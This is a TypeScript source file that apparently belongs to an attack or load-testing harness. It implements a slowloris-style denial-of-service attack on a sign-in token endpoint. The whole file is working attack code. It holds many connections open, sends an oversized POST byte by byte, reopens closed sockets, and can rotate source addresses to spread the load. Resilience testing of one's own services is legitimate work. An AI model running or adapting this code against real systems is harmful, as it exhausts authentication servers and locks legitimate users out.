import { setTimeout as sleep } from 'node:timers/promises'
import { AttackCounts, type AttackReport, type AttackTarget } from './attack.ts'
import { openConnection, requestHead } from './raw-connection.ts'

interface Trickling {
  readonly connections: number
  readonly holdMs: number
  /** Between two bytes of a connection. */
  readonly everyMs: number
  /** Where connections come from, one after the other; where they come from anyway if empty. */
  readonly addresses?: readonly string[]
}

/** Opens many connections to the sign-in's token endpoint, and sends each request byte by byte. Reopens those that are closed. */
export async function trickle(
  { origin }: AttackTarget,
  { connections, holdMs, everyMs, addresses = [] }: Trickling,
): Promise<AttackReport> {
  const counts = new AttackCounts()
  const until = performance.now() + holdMs
  const head = requestHead('POST', '/idp/token', {
    host: new URL(origin).host,
    'content-type': 'application/x-www-form-urlencoded',
    'content-length': 100_000,
  })
  const attacker = async (at: number): Promise<void> => {
    while (performance.now() < until) {
      const address = addresses[at % Math.max(1, addresses.length)]
      const socket = await openConnection(origin, address)
      if (socket === null) {
        counts.hungUp += 1
        await sleep(everyMs)
        continue
      }
      counts.sent += 1
      socket.on('data', (chunk: Buffer) => {
        const status = /^HTTP\/1\.1 (\d{3}) /.exec(chunk.toString('latin1'))?.[1]
        if (status !== undefined) counts.answered(Number(status))
      })
      socket.write(head)
      while (performance.now() < until && !socket.destroyed) {
        await sleep(everyMs)
        socket.write('x')
      }
      if (socket.destroyed && performance.now() < until) counts.hungUp += 1
      socket.destroy()
    }
  }
  const attackers: Promise<void>[] = []
  for (let at = 0; at < connections; at += 1) {
    attackers.push(attacker(at))
    if (at % 50 === 49) await sleep(1)
  }
  await Promise.all(attackers)
  return counts.report()
}
